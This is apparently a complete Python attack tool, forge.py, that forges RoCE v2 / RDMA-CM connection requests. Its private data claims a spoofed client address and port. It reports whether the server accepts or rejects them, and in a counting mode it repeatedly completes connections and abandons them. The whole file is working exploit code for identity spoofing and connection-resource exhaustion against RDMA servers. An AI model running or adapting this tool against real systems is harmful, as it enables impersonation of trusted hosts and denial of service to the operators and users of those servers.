"""forge.py MINE SERVER PORT CLAIMED_ADDRESS CLAIMED_PORT [COUNT]: asks a RoCE v2 server for a connection, as any user can
who may send a datagram: the packets come from MINE, and the private data of the request says CLAIMED. Prints "answered" when
the server accepts, "refused" when it rejects, "silent" when it says nothing for some seconds. With COUNT it asks so often,
establishes what is accepted, and is never heard of again: "answered 3 refused 4 silent 0"."""
import os
import socket
import struct
import sys
import zlib

ROCE_PORT = 4791
CM_REQ, CM_MRA, CM_REJ, CM_REP, CM_RTU = 0x10, 0x11, 0x12, 0x13, 0x14
UD_SEND_ONLY, GSI_QP, GSI_QKEY = 0x64, 1, 0x80010000
IB_CM_PORT_SPACE_TCP = 0x01060000

mine, server, port, claimed, claimed_port = sys.argv[1:4] + [sys.argv[4], int(sys.argv[5])]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER: the checksum below covers "don't fragment"
sock.bind((mine, ROCE_PORT))


def mapped(address):
    """The GID of an IPv4 address."""
    return bytes(10) + b"\xff\xff" + socket.inet_aton(address)


def packet(payload):
    """Base transport header, datagram header, payload and invariant CRC (InfiniBand specification, annex A17)."""
    base = struct.pack("!BBHII", UD_SEND_ONLY, 0x40, 0xFFFF, GSI_QP, 0)
    rest = struct.pack("!II", GSI_QKEY, GSI_QP) + payload
    length = 8 + len(base) + len(rest) + 4
    # In the ICRC, fields that routers may change count as ones.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, socket.IPPROTO_UDP, 0xFFFF,
                     socket.inet_aton(mine), socket.inet_aton(server))
    udp = struct.pack("!HHHH", ROCE_PORT, ROCE_PORT, length, 0xFFFF)
    masked = base[:4] + b"\xff" + base[5:]
    return base + rest + struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + masked + rest))


def management(attribute, data):
    """A management datagram of the communication manager."""
    header = struct.pack("!BBBBHHQHHI", 1, 7, 2, 3, 0, 0, int.from_bytes(os.urandom(6), "big"), attribute, 0, 0)
    return (header + data).ljust(256, b"\0")


def request(identifier):
    """A request for a reliable connection, with the private data of RDMA-CM."""
    body = struct.pack("!II", identifier, 0)
    body += struct.pack("!QQ", IB_CM_PORT_SPACE_TCP + int(port), int.from_bytes(os.urandom(7), "big"))
    body += struct.pack("!II", 0, 0)                        # keys
    body += struct.pack("!II", 0x300 << 8 | 16, 16)         # queue pair, reads
    body += struct.pack("!I", 20 << 3)                      # remote timeout, reliable connection
    body += struct.pack("!I", 0x100 << 8 | 20 << 3 | 7)     # first packet, local timeout, retries
    body += struct.pack("!HBB", 0xFFFF, 3 << 4 | 7, 15 << 4)
    body += struct.pack("!HH", 0, 0) + mapped(mine) + mapped(server)
    body += struct.pack("!IBBBB", 2, 0, 64, 0, 14 << 3)
    body += bytes(44)                                       # no alternate path
    private = struct.pack("!BBH", 0, 4 << 4, claimed_port)
    private += bytes(12) + socket.inet_aton(claimed) + bytes(12) + socket.inet_aton(server)
    return management(CM_REQ, body + private)


def ask():
    """Asks once, and again where nothing is heard."""
    identifier = int.from_bytes(os.urandom(4), "big") >> 1
    for attempt in range(4):
        sock.sendto(packet(request(identifier)), (server, ROCE_PORT))
        sock.settimeout(2)
        try:
            while True:
                got = sock.recv(4096)
                if len(got) < 52 or got[0] != UD_SEND_ONLY:
                    continue
                attribute = struct.unpack("!H", got[36:38])[0]
                if got[48:52] != struct.pack("!I", identifier):
                    continue
                if attribute == CM_REP:
                    ready = management(CM_RTU, struct.pack("!I", identifier) + got[44:48])
                    if counts:
                        sock.sendto(packet(ready), (server, ROCE_PORT))
                    return "answered"
                if attribute == CM_REJ:
                    return "refused"
        except socket.timeout:
            pass
    return "silent"


counts = {"answered": 0, "refused": 0, "silent": 0} if len(sys.argv) > 6 else None
if counts is None:
    print(ask())
else:
    for _ in range(int(sys.argv[6])):
        counts[ask()] += 1
    print(" ".join(f"{outcome} {count}" for outcome, count in counts.items()))
